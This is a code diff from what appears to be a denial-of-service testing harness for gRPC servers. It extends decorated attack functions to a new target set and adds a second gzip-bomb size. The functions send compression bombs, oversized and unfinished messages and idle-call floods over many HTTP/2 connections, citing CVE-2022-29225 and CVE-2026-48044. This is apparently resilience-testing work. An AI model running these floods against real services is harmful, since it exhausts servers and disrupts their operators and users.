@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import functools
 import gzip
 import itertools
 
 import frames
 from frames import data, headers, literal, message, reset, start
 from over_http2 import NO_WINDOW, STREAMS, batches
-from script import AGAIN, GRPC, POINT, Line, Script, attack
+from script import AGAIN, GRPC, POINT, STORE, Line, Script, attack
 
 SERVICE = "/routeguide.RouteGuide"
 REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
@@ -62,19 +63,25 @@ def unknown_field(size: int) -> bytes:
     return b"\x7a" + varint(size) + b"a" * size
 
 
-BOMB = gzip.compress(unknown_field(128 << 20), 9)  # 126 KB
 BOMBLET = gzip.compress(unknown_field(65_000), 9)
+
+
+@functools.cache
+def bombs() -> list[bytes]:
+    """126 KB, which is beyond the limit of a message, and 60 KB, which is below it."""
+    return [gzip.compress(unknown_field(size << 20), 9) for size in (128, 60)]
 
 
 # ---- messages ----
 
 
-@attack(on=GRPC, connections=4, windows=True)
+@attack(on=(*GRPC, *STORE), connections=4, windows=True)
 def gzip_bomb(line: Line) -> Script:
-    """CVE-2022-29225 and CVE-2026-48044: messages of 126 KB that inflate to 128 MiB, on 100 streams of 4 connections."""
+    """CVE-2022-29225 and CVE-2026-48044: messages of 126 KB that inflate to 128 MiB, or 60 KB to 60 MiB, on 100 streams
+    of 4 connections."""
     asked = call(line, "GetFeature", grpc_encoding="gzip")
     yield start() + b"".join(headers(stream, asked, end=False) for stream in streams())
-    yield from sent(line, {stream: message(BOMB, compressed=True) for stream in streams()})
+    yield from sent(line, {stream: message(bombs()[stream // 2 % 2], compressed=True) for stream in streams()})
 
 
 @attack(on=GRPC, connections=8, windows=True)
@@ -87,7 +94,7 @@ def small_gzip_bombs(line: Line) -> Script:
         yield from sent(line, dict.fromkeys(streams(), many))
 
 
-@attack(on=GRPC, connections=4, windows=True)
+@attack(on=(*GRPC, *STORE), connections=4, windows=True)
 def oversized_message(line: Line) -> Script:
     """CWE-789: messages whose prefix says 160 MiB, or 4 GB, and as much of them as the windows allow."""
     asked = call(line, "GetFeature")
@@ -98,7 +105,7 @@ def oversized_message(line: Line) -> Script:
         yield from sent(line, dict.fromkeys(streams(), part))
 
 
-@attack(on=GRPC, connections=40, windows=True, exhausts=GRPC)
+@attack(on=(*GRPC, *STORE), connections=40, windows=True, exhausts=(*GRPC, *STORE))
 def unfinished_messages(line: Line) -> Script:
     """RFC 9113, 10.5: 4,000 messages of 60 KB without their last byte, over 40 connections."""
     asked = call(line, "RecordRoute")
@@ -128,7 +135,7 @@ def dripped_messages(line: Line) -> Script:
 # ---- calls ----
 
 
-@attack(on=GRPC, connections=100, exhausts=GRPC)
+@attack(on=(*GRPC, *STORE), connections=100, exhausts=(*GRPC, *STORE))
 def open_calls(line: Line) -> Script:
     """RFC 9113, 10.5: 10,000 calls over 100 connections, which send nothing."""
     asked = call(line, "RecordRoute")
